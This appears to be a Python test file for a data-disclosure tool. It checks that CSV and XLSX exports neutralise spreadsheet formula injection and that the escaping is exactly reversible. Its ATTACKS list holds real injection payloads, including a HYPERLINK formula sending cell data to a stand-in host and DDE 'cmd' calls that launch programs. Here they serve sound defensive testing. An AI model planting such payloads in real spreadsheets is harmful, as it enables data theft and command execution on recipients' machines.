"""Spreadsheet formula injection: every CSV and XLSX disclosure, at every level, is inert."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from dealvault import sheets
from dealvault.crypto.keyring import KeyRing
from dealvault.deidentify.levels import Level
from dealvault.deidentify.writers import read_disclosure, read_disclosure_meta, write_disclosure
from dealvault.flows.context import AppStores
from dealvault.flows.disclosure import Disclosure, DisclosureRequest, disclose
from dealvault.flows.importing import ImportRequest, import_source
from dealvault.ingest.readers import SourceSpec
from tests.conftest import P, World
from tests.vault.helpers import customer_row, write_csv

#: Cell values a spreadsheet would run (OWASP's list), planted in text fields of the import.
ATTACKS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)
LEVELS = (Level.FULL, Level.MASKED, Level.PSEUDONYMIZED, Level.AGGREGATE)


def unsafe_text(cell: str) -> bool:
    """A cell a spreadsheet would run: starts with a formula character and is not a number."""
    if not sheets.is_unsafe(cell):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][0].startswith("# dealvault-disclosure: ")
    return [cell for row in rows[1:] for cell in row]


def xlsx_cells(path: Path) -> list[tuple[str, object]]:
    """(openpyxl data type, value) of every cell of every sheet; no formula, no hyperlink."""
    book = openpyxl.load_workbook(path)
    out: list[tuple[str, object]] = []
    for sheet in book.worksheets:
        assert not sheet._hyperlinks, f"{sheet.title}: a cell became a hyperlink"
        for row in sheet.iter_rows():
            out += [(c.data_type, c.value) for c in row if c.value is not None]
    assert all(kind != "f" for kind, _ in out), "a cell became a formula"
    return out


@pytest.fixture(params=["sqlite"])
def backend(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def planted(stores: AppStores, keyring: KeyRing, world: World, tmp_path: Path) -> None:
    """30 invented customers whose address and favourite product are formula attacks."""
    rows = [
        customer_row(i, 地址=ATTACKS[i % len(ATTACKS)], 偏好产品=ATTACKS[(i + 1) % len(ATTACKS)])
        for i in range(1, 31)
    ]
    path = write_csv(tmp_path / "crm.csv", rows)
    req = ImportRequest(
        actor=P(world.steward), deal=world.deal, dataset="crm", spec=SourceSpec(path=path)
    )
    import_source(stores, keyring, request=req, rejects_dir=tmp_path / "rejects")


def _disclose(stores: AppStores, keyring: KeyRing, world: World, level: Level) -> Disclosure:
    extra: dict[str, object] = {}
    if level is not Level.FULL:
        extra["recipient"] = "Bidder A"
    if level is Level.AGGREGATE:
        extra |= {"group_by": ["favourite_product"], "k_min": 1}
    req = DisclosureRequest(
        actor=P(world.steward), deal=world.deal, dataset="crm", purpose="formula test", seed=3,
        level=level, **extra,  # type: ignore[arg-type]
    )  # fmt: skip
    return disclose(stores, keyring, request=req)


def _texts(frame: pl.DataFrame) -> set[str]:
    return {v for c in frame.columns if frame.schema[c] == pl.String for v in frame[c].drop_nulls()}


@pytest.mark.parametrize("level", LEVELS, ids=lambda lv: lv.value)
def test_every_level_writes_inert_csv_and_xlsx(
    stores: AppStores,
    keyring: KeyRing,
    world: World,
    planted: None,
    tmp_path: Path,
    level: Level,
) -> None:
    got = _disclose(stores, keyring, world, level)
    released = _texts(got.frame)
    attacks = {a for a in released if sheets.is_unsafe(a)}
    assert attacks, f"{level.value}: no formula-like text reached the output; the test is void"

    out = tmp_path / f"{level.value}.csv"
    write_disclosure(got.frame, path=out, fmt="csv", meta=got.meta)
    cells = csv_cells(out)
    assert not [c for c in cells if unsafe_text(c)]
    assert {sheets.QUOTE + a for a in attacks} <= set(cells)  # neutralised, not dropped

    book = tmp_path / f"{level.value}.xlsx"
    write_disclosure(got.frame, path=book, fmt="xlsx", meta=got.meta)
    typed = xlsx_cells(book)
    assert not [v for kind, v in typed if kind == "s" and sheets.is_unsafe(str(v))]
    assert {sheets.QUOTE + a for a in attacks} <= {str(v) for _, v in typed}

    # the documented undo gives back exactly what was released
    for path in (out, book):
        back = read_disclosure(path)
        assert _texts(back) >= attacks
        assert read_disclosure_meta(path)["level"] == level.value


def test_numbers_stay_numbers_and_headers_are_neutralised(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "amount": [-12.5, 3.0, -0.25],
            "count": [-1, 2, 3],
            "note": ["-1+2", "'=already quoted", "plain"],
            "=HYPERLINK(1)": ["a", "b", "c"],
            "kind": pl.Series(["=x", "y", "=x"], dtype=pl.Categorical),
        }
    )
    meta = {"level": "full", "recipient": "=evil()", "generated_at": "2026-01-01T00:00:00Z"}
    out = tmp_path / "x.csv"
    write_disclosure(frame, path=out, fmt="csv", meta=meta)
    with out.open(encoding="utf-8", newline="") as fh:
        header, *rows = list(csv.reader(fh))[1:]
    assert header == ["amount", "count", "note", "'=HYPERLINK(1)", "kind"]
    assert rows[0] == ["-12.5", "-1", "'-1+2", "a", "'=x"]  # numbers as they are
    assert rows[1][2] == "''=already quoted"  # one more quote: the undo is exact
    back = read_disclosure(out)
    assert back.columns == frame.columns
    assert back["note"].to_list() == frame["note"].to_list()
    assert back["kind"].to_list() == ["=x", "y", "=x"]

    book = tmp_path / "x.xlsx"
    write_disclosure(frame, path=book, fmt="xlsx", meta=meta)
    sheet = openpyxl.load_workbook(book)["data"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    kinds = [[c.data_type for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["amount", "count", "note", "'=HYPERLINK(1)", "kind"]
    assert values[1][:3] == [-12.5, -1, "'-1+2"] and kinds[1][:2] == ["n", "n"]
    about = dict(openpyxl.load_workbook(book)["about"].iter_rows(values_only=True))
    assert about["recipient"] == "'=evil()"
    assert read_disclosure_meta(book)["recipient"] == "=evil()"
    assert read_disclosure(book)["note"].to_list() == frame["note"].to_list()


def test_neutralise_and_restore_are_inverse() -> None:
    values = ["=1", "+1", "-1", "@a", "\tb", "\rc", "'=d", "''+e", "'f", "g=h", "", "'", "=", None]
    frame = pl.DataFrame({"v": values})
    escaped = sheets.neutralise(frame)
    assert not [v for v in escaped["v"].drop_nulls() if sheets.is_unsafe(v)]
    assert sheets.restore(escaped).equals(frame)
    for v in values[:-1]:
        assert sheets.restore_text(sheets.neutralise_text(str(v))) == v


def test_the_escaping_and_its_undo_are_documented() -> None:
    root = Path(__file__).resolve().parents[2]
    formats = (root / "docs" / "formats.md").read_text(encoding="utf-8")
    section = formats[formats.index("## Spreadsheet formula injection") :]
    section = section[: section.index("\n## ", 4)]
    for start in ("`=`", "`+`", "`-`", "`@`", "tab", "carriage"):
        assert start in section, start
    assert "**Undo:**" in section and "sheets.restore" in section
    assert "`'=x` → `''=x`" in section  # the rule that makes the undo exact
    assert "strings_to_formulas" in section and "full included" in section
    # the regular expression given to readers is the one the code uses
    assert "^'('*[=+\\-@\\t\\r])" in section and sheets._ESCAPED == r"^'('*[=+\-@\t\r])"
    deid = (root / "docs" / "deidentification.md").read_text(encoding="utf-8")
    assert "Spreadsheet formula injection" in deid and "leading single quote" in deid
